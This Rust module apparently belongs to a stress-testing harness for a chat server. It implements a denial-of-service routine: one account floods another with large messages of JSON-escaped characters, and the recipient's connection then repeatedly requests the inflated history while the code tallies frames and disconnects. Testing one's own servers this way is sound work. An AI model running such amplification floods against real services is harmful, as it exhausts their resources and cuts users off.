//! Large messages of characters that JSON escapes are sent to a victim who is away, who then comes and asks for all of them,
//! again and again.

use std::{pin::pin, time::Duration};

use anyhow::ensure;
use tokio::time::{Instant, sleep_until};

use crate::{
    attack::{flood::keep_going, kind::Prepared, stage::Stage},
    client::{Account, Frame, Received, Socket},
};

/// Characters as JSON writes them: two bytes for one, and, where a server takes such, six.
const PIECES: [&str; 2] = ["\\u0001", "\\\""];
/// Bytes of a message as JSON writes it: nearly as many as are taken.
const ENCODED: usize = 16_000;

pub(in crate::attack) async fn prepare(stage: &Stage) -> anyhow::Result<Prepared> {
    let [sender, victim] = <[Account; 2]>::try_from(stage.several(2).await?)
        .map_err(|_| anyhow::anyhow!("two accounts are needed"))?;
    fill(stage, &sender, &victim.username, 100).await?;
    let key = stage.rest().newest_conversation(&victim.token).await?;
    let ask = format!(r#"{{"type":7,"cursors":{{"{key}":0}}}}"#);
    let endpoint = stage.endpoint.clone();
    Ok(Prepared::new(async move |until, tally| {
        keep_going(1, until, |_| {
            let (endpoint, victim, tally) = (endpoint.clone(), victim.clone(), tally.clone());
            let ask = ask.clone();
            async move {
                let Ok(mut socket) = Socket::connect(&endpoint, &victim.token, 0).await else {
                    tally.count("refused");
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    return;
                };
                let mut open = true;
                while open && Instant::now() < until {
                    let mut timer = pin!(sleep_until(Instant::now() + Duration::from_millis(500)));
                    if socket.wait(timer.as_mut()).await.is_err() {
                        break;
                    }
                    let read = socket.receive(|received, _| match received {
                        Received::Text(text) => {
                            if let Some(frame) = Frame::scan(text)
                                && frame.kind == 2
                            {
                                tally.count("frames");
                            }
                        }
                        Received::Close(code) => {
                            tally.count(format!("closed {code}"));
                            open = false;
                        }
                    });
                    socket.outbox.text(ask.as_bytes());
                    if read.is_err() || socket.flush().is_err() {
                        break;
                    }
                }
            }
        })
        .await;
    }))
}

/// Sends `count` large messages, as slowly as the limit wants it.
pub(super) async fn fill(
    stage: &Stage,
    from: &Account,
    to: &str,
    count: usize,
) -> anyhow::Result<()> {
    let (mut stored, mut refused) = (0, None);
    let mut socket = Socket::connect(&stage.endpoint, &from.token, 0).await?;
    let mut acked = 0;
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut number = 0;
    let mut next = Instant::now();
    while acked < count && Instant::now() < deadline {
        if number < count && Instant::now() >= next {
            let content = PIECES[number % PIECES.len()];
            let content = content.repeat(ENCODED / content.len());
            let text =
                format!(r#"{{"type":2,"msg_id":"e{number}","to":"{to}","content":"{content}"}}"#);
            socket.outbox.text(text.as_bytes());
            number += 1;
            next = Instant::now() + Duration::from_millis(60);
        }
        socket.flush()?;
        let mut timer = pin!(sleep_until(Instant::now() + Duration::from_millis(20)));
        socket.wait(timer.as_mut()).await?;
        socket.receive(|received, _| {
            if let Received::Text(text) = received
                && let Some(frame) = Frame::scan(text)
                && frame.kind == 3
            {
                acked += 1;
                match frame.status {
                    b"failed" => refused = Some(String::from_utf8_lossy(frame.reason).into_owned()),
                    _ => stored += 1,
                }
            }
        })?;
    }
    ensure!(
        stored * 2 >= count,
        "only {stored} messages were stored: {refused:?}"
    );
    Ok(())
}
